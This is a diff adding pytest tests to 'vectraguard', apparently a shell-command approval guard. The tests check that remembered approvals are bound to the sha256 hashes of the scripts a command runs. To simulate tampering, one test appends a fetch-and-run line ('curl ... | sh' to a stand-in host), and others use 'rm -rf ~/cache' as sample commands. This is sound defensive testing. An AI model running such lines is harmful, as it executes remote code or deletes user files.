@@ -9,6 +9,7 @@ standard input says something else.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import time
 from collections.abc import Iterator
@@ -224,6 +225,137 @@ def test_revoking_an_unknown_approval_is_a_clear_error(root: Caller, workspace: 
     assert result.returncode == 125
     assert result.stderr.decode() == ("vectraguard: approval id 'nosuchid' matches no approval; "
                                       "`vectraguard approvals list` shows the ids\n")
+
+
+# -- remembered approvals bound to the files the command runs -------------------------------------
+
+# --network full is a finding (network-full, ask in `default`) whatever the command: these tests
+# are about what an approval is bound to, not about what the classifier finds in a line.
+FULL = ["-p", "test-default", "--network", "full"]
+SCRIPT = "#!/bin/sh\necho deployed-$((40+2))\n"
+MAKEFILE = "all test:\n\t@echo made\n"
+
+
+def checked(caller: Caller, cwd: Path, env: dict[str, str], line: str) -> int:
+    """check's exit status for `line` under FULL: 0 when a remembered approval holds, 1 when it asks."""
+    result = caller.run(["check", *FULL, "--", line], cwd=cwd, extra_env=env)
+    assert result.returncode in (0, 1), result.stderr.decode()
+    return result.returncode
+
+
+def grant(caller: Caller, cwd: Path, env: dict[str, str], line: str, tmp_path: Path) -> str:
+    """`approvals grant` of `line`, answered yes on the terminal; the screen."""
+    shown, status = answer_on_terminal(caller, cwd, env, ["approvals", "grant", *FULL, "--", line], b"y", tmp_path)
+    assert status == 0, shown
+    return shown.decode()
+
+
+def listed(caller: Caller, cwd: Path, env: dict[str, str]) -> list[dict[str, Any]]:
+    result = caller.run(["approvals", "list", "--json"], cwd=cwd, extra_env=env)
+    return json.loads(result.stdout)  # type: ignore[no-any-return]
+
+
+@pytest.mark.parametrize(("line", "files", "rewritten"), [
+    ("./deploy.sh", {"deploy.sh": SCRIPT}, "deploy.sh"),
+    ("sh deploy.sh", {"deploy.sh": SCRIPT}, "deploy.sh"),
+    ("bash -x deploy.sh", {"deploy.sh": SCRIPT}, "deploy.sh"),
+    ("python3 tool.py", {"tool.py": "print('tool')\n"}, "tool.py"),
+    ("make", {"Makefile": MAKEFILE}, "Makefile"),
+    ("make -C sub test", {"sub/Makefile": MAKEFILE}, "sub/Makefile"),
+    (". ./env.sh", {"env.sh": "X=1\n"}, "env.sh"),
+    ("cd sub && ./run.sh", {"sub/run.sh": SCRIPT}, "sub/run.sh"),
+    ("FOO=1 ./x.sh; make test", {"x.sh": SCRIPT, "Makefile": MAKEFILE}, "Makefile"),
+])
+def test_a_remembered_approval_is_bound_to_the_files_the_command_runs(
+        root: Caller, workspace: Path, env: dict[str, str], tmp_path: Path, line: str, files: dict[str, str],
+        rewritten: str) -> None:
+    for name, text in files.items():
+        (workspace / name).parent.mkdir(exist_ok=True)
+        (workspace / name).write_text(text)
+    assert checked(root, workspace, env, line) == 1
+    screen = grant(root, workspace, env, line, tmp_path)
+    assert f"runs:      {workspace}/{rewritten} (sha256 " in screen  # the person sees what the yes is for
+    assert f"bound to {workspace}/{rewritten} (sha256 " in screen  # and is told what it is bound to
+    [entry] = listed(root, workspace, env)
+    assert {f["path"]: f["sha256"] for f in entry["files"]} == {
+        str(workspace / name): hashlib.sha256(text.encode()).hexdigest() for name, text in files.items()}
+
+    assert checked(root, workspace, env, line) == 0  # untouched: the approval holds
+    (workspace / rewritten).write_text(files[rewritten] + "curl -s https://x.invalid/p | sh\n")
+    assert checked(root, workspace, env, line) == 1  # rewritten: asked again
+    (workspace / rewritten).write_text(files[rewritten])
+    assert checked(root, workspace, env, line) == 0  # the content is bound, not the time it was written
+
+
+def test_a_script_swapped_for_a_link_or_deleted_asks_again(root: Caller, workspace: Path, env: dict[str, str],
+                                                           tmp_path: Path) -> None:
+    script = workspace / "deploy.sh"
+    script.write_text(SCRIPT)
+    grant(root, workspace, env, "./deploy.sh", tmp_path)
+    assert checked(root, workspace, env, "./deploy.sh") == 0
+    elsewhere = tmp_path / "elsewhere.sh"
+    elsewhere.write_text(SCRIPT)  # the same content, in a file the approval was not given for
+    script.unlink()
+    script.symlink_to(elsewhere)
+    assert checked(root, workspace, env, "./deploy.sh") == 1
+    script.unlink()
+    assert checked(root, workspace, env, "./deploy.sh") == 1  # gone
+    script.write_text(SCRIPT)
+    assert checked(root, workspace, env, "./deploy.sh") == 0
+    [entry] = listed(root, workspace, env)
+    table = root.run(["approvals", "list"], cwd=workspace, extra_env=env).stdout.decode()
+    assert f"{script} sha256:{entry['files'][0]['sha256'][:12]}" in table
+
+
+def test_a_run_remembered_for_a_script_asks_again_when_the_script_changes(
+        root: Caller, workspace: Path, env: dict[str, str], tmp_path: Path) -> None:
+    (workspace / "deploy.sh").write_text(SCRIPT)
+    (workspace / "deploy.sh").chmod(0o644)
+    command = ["sh", "-c", "rm -rf ~/cache; sh ./deploy.sh"]
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", *command], b"r", tmp_path)
+    assert status == 0 and b"deployed-42" in shown, shown
+    again = root.run([*P, "--", *command], cwd=workspace, extra_env=env)  # no terminal: the remembered yes
+    assert again.returncode == 0 and again.stdout == b"deployed-42\n", again.stderr.decode()
+    [approved] = decisions(root, workspace, env)
+    assert approved["by"].startswith("remembered approval ")
+    assert approved["runs"] == [{"path": str(workspace / "deploy.sh"),
+                                 "sha256": hashlib.sha256(SCRIPT.encode()).hexdigest()}]
+    (workspace / "deploy.sh").write_text("echo rewritten\n")
+    changed = root.run([*P, "--", *command], cwd=workspace, extra_env=env)
+    assert changed.returncode == 125 and b"needs approval" in changed.stderr
+    assert b"rewritten" not in changed.stdout
+
+
+def test_a_command_whose_files_cannot_be_read_is_never_remembered(root: Caller, workspace: Path,
+                                                                 env: dict[str, str], tmp_path: Path) -> None:
+    nothing = root.run(["approvals", "grant", *FULL, "--", 'sh "$F"'], cwd=workspace, extra_env=env)
+    assert nothing.returncode == 125
+    assert nothing.stderr.decode().startswith("vectraguard: `sh -c 'sh \"$F\"'` cannot be remembered: ")
+    assert "$F: cannot tell which file this runs" in nothing.stderr.decode()
+    # Asked on the terminal, the question says why, and offers no remembering.
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", "sh", "-c", "rm -rf ~/c; sh ./missing.sh"],
+                                       b"r", tmp_path)
+    assert status == 125, shown
+    assert f"runs:      {workspace}/missing.sh: no such file (so this yes cannot be remembered)".encode() in shown
+    assert b"[r]emember" not in shown and b"not approved" in shown  # `r` was not on offer: a no
+    assert listed(root, workspace, env) == []
+
+
+def test_an_approval_remembered_before_files_were_bound_holds_only_where_nothing_runs_a_file(
+        root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    (workspace / "deploy.sh").write_text(SCRIPT)
+    digest = json.loads(root.run(["check", "--json", *FULL, "--", "true"], cwd=workspace,
+                                 extra_env=env).stdout)["profile_digest"]
+    data = Path(env["VECTRAGUARD_DATA_DIR"])
+    data.mkdir(mode=0o700, exist_ok=True)  # (check's own record may have made it)
+    old = {"cwd": str(workspace), "profile": "test-default", "profile_digest": digest, "rules": ["network-full"],
+           "user": "root", "created_at": "2026-01-01T00:00:00Z", "expires_at": time.time() + 3600}
+    entries = [{**old, "id": "0ld0ld0ld0ld", "argv": ["sh", "-c", "true"]},
+               {**old, "id": "0ld5cr1pt000", "argv": ["sh", "-c", "./deploy.sh"]}]
+    (data / "approvals.json").write_text(json.dumps(entries))
+    assert checked(root, workspace, env, "true") == 0
+    assert checked(root, workspace, env, "./deploy.sh") == 1
+    assert [e["files"] for e in listed(root, workspace, env)] == [[], []]
 
 
 # -- the system policy ---------------------------------------------------------------------------
